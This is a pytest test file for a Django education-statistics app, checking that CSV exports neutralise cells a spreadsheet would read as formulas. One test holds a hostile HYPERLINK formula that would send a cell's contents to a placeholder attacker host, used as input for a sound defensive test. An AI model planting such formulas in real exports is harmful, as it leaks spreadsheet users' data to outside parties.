"""CSV exports neutralise cells that a spreadsheet would read as a formula (issue 7.12, OWASP)."""

import csv
import io

import pytest
from django.test import Client

from smartedu.stats import services
from smartedu.stats.exports import csv_cell
from smartedu.stats.periods import today
from tests.stats.factories import admin


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx", '=HYPERLINK("http://x")'])
def test_text_that_starts_a_formula_gets_a_quote(text):
    assert csv_cell(text) == "'" + text


@pytest.mark.parametrize(("value", "written"), [("语文", "语文"), (42, 42), (-3, -3), (1.5, 1.5), (None, "")])
def test_other_values_are_written_as_they_are(value, written):
    assert csv_cell(value) == written


def test_a_hostile_title_is_neutralised_in_the_export(db):
    from tests.factories.k12 import ResourceFactory

    resource = ResourceFactory(title='=HYPERLINK("http://evil.example/?"&A1,"点我")')
    # through the flush's writer: the day's row and its month's (a period that ends today reads the month)
    services.object_views_add(
        rows=[
            {"day": today(), "kind": "k12.resource", "object_id": resource.pk, "platform": "k12",
             "section_ref": "", "column_ref": "", "views": 3}
        ]
    )  # fmt: skip
    client = Client()
    client.force_login(admin())
    response = client.get("/dashboard/hot/", {"export": "hot-k12"})
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert rows[1][1] == "'" + resource.title
    assert rows[1][3] == "3"
